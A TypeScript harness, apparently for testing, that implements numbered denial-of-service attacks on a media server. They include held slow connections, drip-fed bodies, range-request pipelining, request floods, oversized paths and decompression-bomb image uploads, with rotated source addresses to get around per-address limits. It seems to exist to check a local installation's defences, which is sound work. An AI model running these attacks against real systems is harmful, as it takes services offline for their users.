import { type RequestOptions, request } from 'node:http';
import { type Socket, connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { isMainThread, workerData } from 'node:worker_threads';

/** What an attacker knows: the installation, an account's cookie, a published media's address. */
export interface Target {
  url: string;
  cookie: string;
  userId: string;
  mediaUrl: string;
  /** A file to send. */
  file: string;
}

/** Each attack comes from an address of its own, which no proxy names: what one used up, the next one has. */
const FROM = isMainThread ? '127.0.0.66' : `127.0.1.${(workerData as { nth: number }).nth + 1}`;
/** How long connections are held (milliseconds). */
const HELD = 15_000;

const dial = (url: string): Socket => {
  const { port, hostname } = new URL(url);
  return connect({ port: Number(port), host: hostname, localAddress: FROM }).on('error', () => {});
};

/** So many connections at once, held for a while. Returns how many are open at the end. */
async function hold(target: Target, count: number, begin: (socket: Socket, index: number) => void): Promise<string> {
  const sockets = Array.from({ length: count }, (_, index) => {
    const socket = dial(target.url);
    begin(socket, index);
    return socket;
  });
  await wait(HELD);
  // Who does not read hears of an end only then.
  for (const socket of sockets) socket.resume();
  await wait(100);
  const open = sockets.filter((socket) => !socket.destroyed).length;
  for (const socket of sockets) socket.destroy();
  return `${open} of ${count} connections open at the end`;
}

/** One answer's status, its body thrown away; 0 when none came. */
const ask = (url: string, options: RequestOptions, body?: Buffer): Promise<number> =>
  new Promise((done) => {
    const asked = request(url, { localAddress: FROM, agent: false, timeout: 60_000, ...options }, (answer) => {
      answer.resume().once('close', () => done(answer.statusCode ?? 0));
    });
    asked.once('timeout', () => asked.destroy());
    asked.once('error', () => done(0));
    asked.end(body);
  });

/** Calls by so many callers at once for a while, or so many in all. Returns how often each status came. */
async function storm(callers: number, most: number, one: (index: number) => Promise<number>): Promise<string> {
  const until = performance.now() + HELD;
  const statuses = new Map<number, number>();
  let sent = 0;
  await Promise.all(
    Array.from({ length: callers }, async () => {
      while (performance.now() < until && sent < most) {
        sent += 1;
        const status = await one(sent);
        statuses.set(status, (statuses.get(status) ?? 0) + 1);
        // Who is refused without an answer or by a limit tries again a little later.
        if (status === 0 || status === 429) await wait(10);
      }
    }),
  );
  return [...statuses].map(([status, count]) => `${count} × ${status === 0 ? 'no answer' : status}`).join(', ');
}

const get = (path: string, headers = '') => `GET ${path} HTTP/1.1\r\nHost: x\r\n${headers}\r\n`;

/** One multipart form with a file. */
function form(fields: Record<string, string>, file: { field: string; name: string; bytes: Buffer }) {
  const boundary = 'attack';
  const texts = Object.entries(fields).map(
    ([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  );
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="${file.field}"; filename="${file.name}"\r\n\r\n`;
  return {
    type: `multipart/form-data; boundary=${boundary}`,
    body: Buffer.concat([Buffer.from(texts.join('') + head), file.bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]),
  };
}

const REFUSED = [
  'POST /api/upload HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=a\r\n',
  'POST /api/upload/tus HTTP/1.1\r\nHost: x\r\nTus-Resumable: 1.0.0\r\nUpload-Length: 10\r\n',
  'PUT /api/media/1 HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n',
  'POST /auth HTTP/1.1\r\nHost: x\r\nSec-Fetch-Site: cross-site\r\nContent-Type: application/json\r\n',
];

/** Each by its name: what one visitor or one free account sends. */
export const attacks: Record<string, (target: Target) => Promise<string>> = {
  'F1 pipelined ranges': (target) =>
    hold(target, 8, (socket) => {
      socket.pause().write(get(target.mediaUrl, 'Range: bytes=0-1048575\r\n').repeat(300));
    }),
  'F1 readers that do not read': (target) =>
    hold(target, 400, (socket) => {
      socket.pause().write(get(target.mediaUrl).repeat(8));
    }),
  'F2 forged addresses': (target) =>
    storm(16, 8000, (n) =>
      ask(
        `${target.url}/files/zzzzz${n}.${'A'.repeat(22)}${new URL(target.mediaUrl, target.url).pathname.replace(/^\/files\/[^/]+/, '').replace(/[^/]+$/, 'a'.repeat(14_000))}/x.m4a`,
        {},
      ),
    ),
  'F6 pictures that unfold': async (target) => {
    const { readFile } = await import('node:fs/promises');
    const bytes = await readFile(target.file);
    const { type, body } = form(
      { imageType: 'profile', targetId: target.userId },
      { field: 'image', name: 'a.png', bytes },
    );
    return storm(4, 4, () =>
      ask(
        `${target.url}/api/upload/image`,
        { method: 'POST', headers: { cookie: target.cookie, 'content-type': type, 'content-length': body.byteLength } },
        body,
      ),
    );
  },
  'F7 bodies that drip after a refusal': (target) =>
    hold(target, 200, (socket, index) => {
      socket.write(`${REFUSED[index % REFUSED.length]}Content-Length: 1000000\r\n\r\n`);
      const drip = setInterval(() => socket.write('x'), 1000);
      socket.on('close', () => clearInterval(drip)).resume();
    }),
  'F7 two thousand connections': (target) =>
    hold(target, 2000, (socket) => socket.resume().write('GET /api/settings HTTP/1.1\r\nHost: x\r\n')),
  'F17 far pages': (target) =>
    storm(30, 600, (n) => ask(`${target.url}/api/browse/media?seed=${n}&page=${n % 2 === 0 ? 100 : 20}&size=100`, {})),
  'F17 lists': (target) => storm(30, 5000, () => ask(`${target.url}/api/browse/media?seed=7&size=100`, {})),
  'F19 pages of calls': (target) => storm(60, 5000, () => ask(`${target.url}/api/docs`, {})),
  'F20 rows of visitors': (target) =>
    storm(16, 8000, () => ask(target.url + target.mediaUrl, { headers: { range: 'bytes=0-0' } })),
};

if (!isMainThread) {
  const { name, target } = workerData as { name: string; target: Target };
  process.stdout.write((await attacks[name]?.(target)) ?? 'There is no such attack.');
}
